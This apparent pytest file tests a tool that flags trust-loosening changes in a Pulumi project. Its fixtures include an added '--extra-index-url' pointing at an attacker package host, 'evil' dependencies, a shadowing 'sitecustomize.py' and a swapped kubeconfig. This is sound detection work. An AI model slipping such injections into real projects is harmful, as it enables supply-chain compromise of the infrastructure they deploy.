"""A change of the code that makes resources, of what it imports or of its packages counts as loosening."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import date
from pathlib import Path

import pytest

from isthmus.contracts.reports.preview import RuleChange
from isthmus.contracts.trust import Trust
from isthmus.core.errors import InputError
from isthmus.engine.project.project import Project
from isthmus.engine.pull_request.making_code import making_files
from isthmus.engine.pull_request.relaxed_rules import program_changes
from isthmus.engine.pull_request.relaxed_stack_file import stack_file_changes
from tests.blueprints.bank import ROOT

TODAY = date(2026, 11, 29)
PROJECT = {
    "Pulumi.yaml": "name: isthmus\nruntime: python\nmain: stacks\nstackConfigDir: stacks\n",
    "pyproject.toml": '[project]\nname = "x"\ndependencies = ["pulumi"]\n[tool.ruff]\nline-length = 90\n',
    "requirements.lock": "pulumi==3.272.0\n",
    "components/__init__.py": "",
    "components/gateway.py": "from edge import classes\n",
    "components/own.py": "",
    "edge/__init__.py": "",
    "edge/classes.py": "from .deep import words\n",
    "edge/deep/__init__.py": "",
    "edge/deep/words.py": "",
    "edge/server.py": "",
    "isthmus/engine/seen.py": "import json\n",
    "stacks/__init__.py": "",
    "stacks/program.py": "import house.names\n",
    "stacks/aws_account/__init__.py": "",
    "stacks/aws_account/account.py": "",
    "house/names.py": "",
    "tests/test_all.py": "import notes\n",
    "notes.py": "",
}
UNCHECKED = b"\xa7\r\r\n\x01\x00\x00\x00" + b"\x00" * 8
FROM_SOURCE = b"\xa7\r\r\n\x00\x00\x00\x00" + b"\x00" * 8


def lay_files(root: Path, files: Mapping[str, str | bytes]) -> Path:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode() if isinstance(text, str) else text)
    return root


def loosened(folder: Path, changed: Mapping[str, str | bytes]) -> list[str]:
    """What `isthmus ci` says loosens, when these files are new or other."""
    before, after = lay_files(folder / "before", PROJECT), lay_files(folder / "after", {**PROJECT, **changed})
    return [
        f"{change.kind}: {change.new}"
        for change in program_changes(before, after, Trust(), TODAY)
        if change.loosens
    ]


@pytest.mark.parametrize(
    "changed",
    [
        {"stacks/aws_account/account.py": "import pulumi"},
        {"pulumi_kubernetes/__init__.py": ""},
        {"json.py": ""},
        {"json/__init__.py": ""},
        {"sitecustomize.py": ""},
        {"house/names.py": "import pulumi"},
        {"components/own.py": "import pulumi"},
        {"edge/classes.py": "import os"},
        {"edge/deep/words.py": "import os"},
        {"stacks/program/__init__.py": "import os"},
        {"stacks/pulumi.py": "import os"},
        {"stacks/aws_account.abi3.so": b"\x7fELF"},
        {"components/__pycache__/gateway.cpython-311.pyc": UNCHECKED},
        {"requirements.lock": "--extra-index-url https://pypi.attacker.example/simple\npulumi==3.272.0\n"},
        {"requirements.txt": "evil\n"},
        {"serve-requirements.lock": "evil==1\n"},
        {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["pulumi", "evil"]\n'},
        {
            "pyproject.toml": '[project]\nname = "x"\ndependencies = ["pulumi"]\n[tool.uv]\nindex-url = "https://x"\n'
        },
    ],
    ids=lambda changed: next(iter(changed)),
)
def test_code_that_makes_resources_or_hides_a_module_loosens(changed: dict[str, str | bytes], tmp_path: Path):
    (found,) = loosened(tmp_path, changed)
    (name,) = changed
    assert found.startswith("trust: ")
    assert f"({name})" in found


@pytest.mark.parametrize(
    "changed",
    [
        {"stacks/own.py": "import pulumi"},
        {"stacks/own_network.py": "import pulumi"},
        {"tests/test_all.py": "import os"},
        {"notes.py": "import os"},
        {"plans/__init__.py": ""},
        {"edge/server.py": "import os"},
        {"docs/example.py": "import os"},
        {"components/__pycache__/gateway.cpython-311.pyc": FROM_SOURCE},
        {
            "pyproject.toml": '[project]\nname = "y"\ndependencies = ["pulumi"]\n[tool.ruff]\nline-length = 99\n'
        },
    ],
    ids=lambda changed: next(iter(changed)),
)
def test_own_code_and_files_that_nothing_imports_are_free(changed: dict[str, str | bytes], tmp_path: Path):
    assert loosened(tmp_path, changed) == []


def test_a_linked_folder_counts_by_where_it_leads(tmp_path: Path):
    before, after = (lay_files(tmp_path / name, PROJECT) for name in ("before", "after"))
    (after / "stacks" / "more").symlink_to("../house")
    (change,) = program_changes(before, after, Trust(), TODAY)
    assert (change.loosens, "stacks/more" in change.new) == (True, True)


def test_the_program_of_this_checkout_has_its_folders_and_what_they_import():
    found = making_files(ROOT, "stacks")
    assert {
        *("stacks/program.py", "stacks/aws_account/account.py", "edge/classes.py", "requirements.lock"),
        "components/__init__.py",
    } <= set(found.content)
    assert not any(name.startswith(("isthmus/", "policies/", "tests/", "docs/")) for name in found.content)


def stack_changes(folder: Path, old: str, new: str, trust: Trust | None = None) -> list[RuleChange]:
    before, after = (
        Project(lay_files(folder / name, {**PROJECT, "stacks/Pulumi.bank.yaml": text})).stack("bank")
        for name, text in (("before", old), ("after", new))
    )
    return list(stack_file_changes(before, after, trust or Trust(), TODAY))


SETTINGS = "config:\n  isthmus:sandbox: 'false'\n  isthmus:overrides: {tags: {a: b}}\nencryptionsalt: v1:a\n"


@pytest.mark.parametrize(
    ("old", "new", "what"),
    [
        ("", "  isthmus:kubeconfig: /home/ci/evil.kubeconfig\n", "isthmus:kubeconfig"),
        ("", "  kubeconfig: /home/ci/evil.kubeconfig\n", "isthmus:kubeconfig"),
        ("  isthmus:kubeconfig: /a\n", "  isthmus:kubeconfig: /b\n", "isthmus:kubeconfig"),
        ("", "  aws:profile: other\n", "aws:profile"),
        ("  pulumi:disable-default-providers: ['*']\n", "", "pulumi:disable-default-providers"),
    ],
)
def test_another_kubeconfig_or_setting_of_a_provider_loosens(old: str, new: str, what: str, tmp_path: Path):
    before, after = (SETTINGS.replace("config:\n", f"config:\n{lines}") for lines in (old, new))
    (change,) = stack_changes(tmp_path, before, after)
    assert (change.kind, change.what, change.loosens) == ("trust", f"Pulumi.bank.yaml: {what}", True)
    assert change.entry is not None
    approved = {"changes": [{"value": change.entry[1], "reason": "planned", "owner": "ana"}]}
    (shown,) = stack_changes(tmp_path, before, after, Trust.model_validate(approved))
    assert shown.kind == "reach"


def test_another_provider_of_secrets_loosens_and_a_new_salt_or_override_does_not(tmp_path: Path):
    (change,) = stack_changes(tmp_path / "a", SETTINGS, f"{SETTINGS}secretsprovider: awskms://alias/x\n")
    assert change.what == "Pulumi.bank.yaml: secretsprovider"
    changed = SETTINGS.replace("v1:a", "v1:b").replace("{a: b}", "{a: c}")
    assert stack_changes(tmp_path / "b", SETTINGS, changed) == []


@pytest.mark.parametrize("key", ["environment", "imports"])
def test_a_key_of_a_stacks_file_that_no_rendering_reads_is_refused(key: str, tmp_path: Path):
    root = lay_files(tmp_path, {**PROJECT, "stacks/Pulumi.bank.yaml": f"{SETTINGS}{key}: [attacker/prod]\n"})
    with pytest.raises(InputError) as raised:
        _ = Project(root).stack("bank").config
    assert f"`{key}`" in raised.value.what
    assert "Pulumi.bank.yaml" in str(raised.value.where)
